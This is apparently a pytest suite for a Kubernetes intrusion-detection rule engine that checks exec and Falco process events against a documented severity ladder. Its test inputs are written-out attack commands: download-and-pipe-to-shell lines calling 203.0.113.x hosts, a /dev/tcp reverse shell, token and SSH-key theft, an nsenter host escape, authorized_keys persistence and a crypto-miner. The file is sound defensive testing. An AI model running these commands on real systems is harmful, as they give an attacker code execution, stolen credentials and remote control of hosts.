"""The severity ladder of docs/rules.md: every built-in rule sits on one rung, and each rung is what an
event with that much evidence gets (one test per rung, through the real reader and engine)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from rules_builder import builtin_rules, exec_event, hunt_events, kubelet_event, rule_ids

DOCS = Path(__file__).resolve().parent.parent / "docs" / "rules.md"
SA = "system:serviceaccount:ci:runner"
SA_GROUPS = ("system:serviceaccounts", "system:authenticated")


def ladder_in_docs() -> dict[str, set[str]]:
    """rung -> rule ids, from the ladder table in docs/rules.md."""
    text = DOCS.read_text(encoding="utf-8")
    section = text.split("## Severity ladder", 1)[1].split("\n## ", 1)[0]
    out: dict[str, set[str]] = {}
    for line in section.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) >= 3 and cells[0].strip("`*") in ("info", "low", "medium", "high", "critical"):
            out[cells[0].strip("`*")] = set(re.findall(r"`([a-z0-9-]+)`", cells[2]))
    return out


def test_every_builtin_rule_is_on_its_rung_in_the_docs() -> None:
    ladder = ladder_in_docs()
    assert set(ladder) == {"info", "low", "medium", "high", "critical"}  # info: chain steps that are never alerts (issue 9)
    placed = [rule for rules in ladder.values() for rule in rules]
    assert len(placed) == len(set(placed)), "a rule is on two rungs"
    for rule in builtin_rules():
        rung = next((r for r, ids in ladder.items() if rule.rule_id in ids), None)
        assert rung == rule.severity, (rule.rule_id, rule.severity, rung)
    assert set(placed) == {r.rule_id for r in builtin_rules()}


def one(tmp_path: Path, ev: dict[str, Any]) -> Any:
    [alert] = hunt_events(tmp_path, [ev])
    return alert


def test_low_is_the_record_of_an_exec(tmp_path: Path) -> None:
    alert = one(tmp_path, exec_event("shop", "web", ["ls", "-la"]))
    assert alert.severity == "low" and rule_ids(alert) == {"k8s-exec-api"}


@pytest.mark.parametrize("ev", [
    exec_event("shop", "web", ["/bin/bash"], tty=True, stdin=True),  # a person typing
    exec_event("kube-system", "coredns-5d78c9869d-abcde", ["ls"]),  # control plane by itself
    exec_event("shop", "web", ["ls"], user=SA, groups=SA_GROUPS, user_agent="argo/v3.5 (linux/amd64)"),  # an operator
    exec_event("shop", "db-0", ["tar", "cf", "-", "/var/log/app"]),  # kubectl cp out
    exec_event("shop", "db-0", ["tar", "xmf", "-", "-C", "/tmp"]),  # kubectl cp in
], ids=["interactive", "control-plane", "service-account", "cp-out", "cp-in"])
def test_medium_is_one_routine_signal(ev: dict[str, Any], tmp_path: Path) -> None:
    assert one(tmp_path, ev).severity == "medium"


@pytest.mark.parametrize("ev", [
    # control plane plus a second signal
    exec_event("kube-system", "coredns-1", ["ls"], user=SA, groups=SA_GROUPS, credential_pod="runner-5f7b9",
               user_agent="argo/v3.5 (linux/amd64)"),
    exec_event("kube-system", "etcd-master-1", ["etcdctl", "get", "/", "--prefix", "--keys-only"]),
    # one signal that is an attack technique
    exec_event("shop", "web", ["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"]),
    exec_event("shop", "db-0", ["tar", "cf", "-", "/root/.ssh"]),
    exec_event("shop", "web", ["nsenter", "-t", "1", "-a", "sh"]),
    exec_event("shop", "web", ["sh", "-c", "echo key >> /root/.ssh/authorized_keys"]),
    exec_event("shop", "web", ["ls"], user_agent="curl/8.5.0"),
], ids=["cp+pod-token", "cp+etcdctl", "token", "cp-secrets", "escape", "persistence", "raw-client"])
def test_high_is_two_signals_or_an_attack_technique(ev: dict[str, Any], tmp_path: Path) -> None:
    assert one(tmp_path, ev).severity == "high"


@pytest.mark.parametrize("ev", [
    exec_event("shop", "web", ["sh", "-c", "wget -q -O- http://203.0.113.7/p | base64 -d | bash"]),
    exec_event("shop", "web", ["sh", "-c", "busybox wget -O /tmp/x http://203.0.113.7/x; chmod +x /tmp/x; /tmp/x"]),
    exec_event("shop", "web", ["ls"], user="system:anonymous", groups=("system:unauthenticated",)),
    kubelet_event("node-1", "run/shop/web/app", [("cmd", "./xmrig -o stratum+tcp://x:4444")]),
], ids=["wget-b64-bash", "busybox-run", "anonymous", "miner"])
def test_critical_is_a_payload_running_or_no_legitimate_use(ev: dict[str, Any], tmp_path: Path) -> None:
    assert one(tmp_path, ev).severity == "critical"


def test_a_burst_in_the_control_plane_is_high(tmp_path: Path) -> None:
    pods = ["coredns-1", "coredns-2", "kube-proxy-a", "kube-proxy-b", "aws-node-c"]
    events = [exec_event("kube-system", pod, ["ls"], time=f"2026-03-01T10:0{i}:00.000000Z") for i, pod in enumerate(pods)]
    alerts = hunt_events(tmp_path, events)
    assert [a.severity for a in alerts[:5]] == ["medium"] * 5
    [burst] = [a for a in alerts if a.lead.rule_id == "k8s-exec-control-plane-burst"]
    assert burst.severity == "high" and "5 container commands" in burst.lead.reason
    # spread over an hour, the same five stay medium
    spread = [exec_event("kube-system", pod, ["ls"], time=f"2026-03-01T1{i}:00:00.000000Z") for i, pod in enumerate(pods)]
    assert {a.severity for a in hunt_events(tmp_path, spread, name="spread.log")} == {"medium"}


# ---- process telemetry (Falco, auditd, KubeArmor): a process is not an exec by itself ----------------


def falco_process(cmdline: str, parent: str = "sh", vpid: int | None = None, grandparent: str | None = None) -> dict[str, Any]:
    """A Falco alert on a process start in a container (the shape of tests/data/falco-output/alerts.jsonl)."""
    fields: dict[str, Any] = {"evt.type": "execve", "proc.cmdline": cmdline, "proc.name": cmdline.split()[0],
                              "proc.pid": 4242, "proc.pname": parent, "container.id": "3f1c2a9b7e4d",
                              "k8s.ns.name": "shop", "k8s.pod.name": "web"}  # fmt: skip
    if vpid is not None:
        fields["proc.vpid"] = vpid
    if grandparent is not None:
        fields["proc.aname[2]"] = grandparent
    return {"output": "x", "priority": "Notice", "rule": "r", "time": "2026-11-26T20:00:00Z", "output_fields": fields}


@pytest.mark.parametrize("ev", [
    falco_process("ls -la /app"),  # a child of a shell in the container
    falco_process("ls -la /app", parent="runc"),  # an exec'd ls: the runtime exec is the join's business, not a rule's
    falco_process("sh", parent="bash"),  # a shell whose ancestry the record does not show
    falco_process("sh -c /entrypoint.sh", parent="containerd-shim", vpid=1),  # the container's own first process
    falco_process("sh -c ps", parent="bash", grandparent="runc"),  # a shell inside an exec'd session: its first shell alerted
], ids=["ls", "exec-ls", "shell-of-a-shell", "entrypoint", "nested-shell-in-exec"])
def test_a_process_alone_is_no_alert(ev: dict[str, Any], tmp_path: Path) -> None:
    assert hunt_events(tmp_path, [ev], name="falco.jsonl") == []


@pytest.mark.parametrize(("parent", "vpid"), [("runc", None), ("/usr/bin/runc", None), ("containerd-shim", 7)],
                         ids=["runc", "runc-path", "adopted-by-shim"])
def test_low_is_a_shell_the_runtime_started(parent: str, vpid: int | None, tmp_path: Path) -> None:
    alert = one(tmp_path, falco_process("bash", parent=parent, vpid=vpid))
    assert alert.severity == "low" and rule_ids(alert) == {"node-exec-shell"}


@pytest.mark.parametrize(("cmdline", "severity", "rule"), [
    ("apt-get install -y masscan", "medium", "cmd-package-install"),
    ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "high", "cmd-credential-access"),
    ("nsenter -t 1 -m -u -i -n sh", "high", "cmd-host-escape"),
    ("./xmrig -o stratum+tcp://pool.example:3333", "critical", "cmd-miner"),
    ("sh -c curl -s http://203.0.113.9/x.sh | sh", "critical", "cmd-download-pipe-shell"),
    ("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "critical", "cmd-reverse-shell"),
], ids=["install", "token", "escape", "miner", "download", "reverse-shell"])
def test_content_rules_rate_process_events_as_they_rate_execs(cmdline: str, severity: str, rule: str, tmp_path: Path) -> None:
    alert = one(tmp_path, falco_process(cmdline))
    assert alert.severity == severity and alert.lead.rule_id == rule
